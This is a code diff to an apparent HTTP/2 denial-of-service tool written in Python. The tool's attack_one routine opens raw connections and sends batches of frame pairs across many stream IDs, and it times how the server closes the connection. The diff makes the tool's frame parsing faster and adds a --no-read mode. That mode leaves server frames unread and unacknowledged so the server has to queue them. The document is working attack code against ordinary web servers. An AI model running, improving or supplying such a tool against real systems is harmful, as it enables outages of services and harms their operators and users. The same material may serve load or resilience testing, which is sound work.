@@ -125,16 +125,7 @@ class Conn:
             self.closed_at = time.monotonic() - self.t0
             self.close_how = how
 
-    def read_exact(self, n, buf):
-        while len(buf) < n:
-            chunk = self.sock.recv(65536)
-            if not chunk:
-                raise EOFError()
-            buf += chunk
-        return buf
-
     def on_frame(self, ftype, flags, payload):
-        self.frames_in += 1
         if ftype == T_SETTINGS and not flags & F_ACK:
             self.send(frame(T_SETTINGS, F_ACK, 0))
         elif ftype == T_PING and not flags & F_ACK:
@@ -145,16 +136,33 @@ class Conn:
                            "debug": payload[8:200].decode("utf-8", "replace"),
                            "at_s": round(time.monotonic() - self.t0, 3)}
 
+    def parse(self, buf):
+        """Handles the whole frames at the start of @buf; returns the bytes
+        they took. Payloads are copied only for the frame types that need
+        an answer or are reported: the server sends about two frames per
+        refused stream, and a slow reader makes it queue them."""
+        pos, end = 0, len(buf)
+        while end - pos >= 9:
+            n = buf[pos] << 16 | buf[pos + 1] << 8 | buf[pos + 2]
+            if end - pos < 9 + n:
+                break
+            ftype = buf[pos + 3]
+            self.frames_in += 1
+            if ftype in (T_SETTINGS, T_PING, T_GOAWAY):
+                self.on_frame(ftype, buf[pos + 4],
+                              bytes(buf[pos + 9:pos + 9 + n]))
+            pos += 9 + n
+        return pos
+
     def read_loop(self):
-        buf = b""
+        buf = bytearray()
         try:
             while True:
-                buf = self.read_exact(9, buf)
-                hi, lo, ftype, flags, _ = struct.unpack(">BHBBI", buf[:9])
-                n = hi << 16 | lo
-                buf = self.read_exact(9 + n, buf)
-                payload, buf = buf[9:9 + n], buf[9 + n:]
-                self.on_frame(ftype, flags, payload)
+                chunk = self.sock.recv(1 << 18)
+                if not chunk:
+                    raise EOFError()
+                buf += chunk
+                del buf[:self.parse(buf)]
         except EOFError:
             self.mark_closed("eof")
         except (OSError, ssl.SSLError) as e:
@@ -179,7 +187,8 @@ def attack_one(args, index, out):
     stream = 1
     try:
         c.send(PREFACE + frame(T_SETTINGS, 0, 0))
-        c.reader.start()  # after the preface: its first write is an ACK
+        if not args.no_read:
+            c.reader.start()  # after the preface: its first write is an ACK
         while sent < args.pairs and c.closed_at is None:
             k = min(args.batch, args.pairs - sent)
             if stream + 2 * k > MAX_STREAM_ID:
@@ -223,6 +232,10 @@ def parse_args(argv):
     p.add_argument("--linger", type=float, default=2.0,
                    help="seconds to wait after the last pair for the server "
                         "to close (default 2)")
+    p.add_argument("--no-read", action="store_true",
+                   help="never read what the server sends (its SETTINGS "
+                        "go unacknowledged; a close is seen only as a "
+                        "failed write)")
     p.add_argument("--tls", action="store_true", help="TLS, ALPN h2")
     p.add_argument("--ca", help="CA to verify the server (else: no check)")
     p.add_argument("--cert", help="client certificate (PEM)")
